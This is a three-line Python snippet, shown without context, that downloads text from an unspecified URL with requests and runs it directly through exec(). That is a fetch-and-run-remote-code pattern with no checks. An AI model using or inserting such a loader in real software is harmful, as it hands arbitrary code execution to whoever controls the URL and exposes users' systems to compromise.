import requests
code = requests.get(URL, timeout=5).text
exec(code, {})
